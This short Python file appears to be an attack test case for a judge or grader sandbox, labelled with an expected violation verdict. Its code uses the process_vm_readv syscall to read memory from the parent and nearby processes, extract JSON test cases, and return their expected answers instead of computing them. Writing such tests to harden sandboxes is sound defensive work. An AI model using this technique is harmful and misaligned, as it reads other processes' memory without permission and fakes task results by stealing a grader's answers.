# attack: read the memory of other processes by process_vm_readv
# expect: RV

import ctypes
import json
import os


def answers(text):
    found = {}
    for line in text.splitlines():
        try:
            case = json.loads(line)
            found[case["args"][0]] = case["expected"]
        except (ValueError, LookupError, TypeError):
            continue
    return found


MARK = b'{"id": "'


def lines(memory):
    return b"\n".join(b'{"id": "' + piece.partition(b"\n")[0] for piece in memory.split(MARK)[1:])


def text():
    libc = ctypes.CDLL(None)
    buffer = ctypes.create_string_buffer(1 << 20)
    found = b""
    start = id(buffer) & ~0xFFFFF
    for pid in [os.getppid(), *range(max(1, os.getpid() - 20), os.getpid())]:
        for step in range(-8, 8):
            local = (ctypes.c_uint64 * 2)(ctypes.addressof(buffer), len(buffer))
            remote = (ctypes.c_uint64 * 2)(start + step * len(buffer), len(buffer))
            if libc.syscall(310, pid, local, 1, remote, 1, 0) > 0:
                found += lines(buffer.raw) + b"\n"
    return found.decode("utf-8", "replace")


def guess(n):
    return answers(text()).get(n)
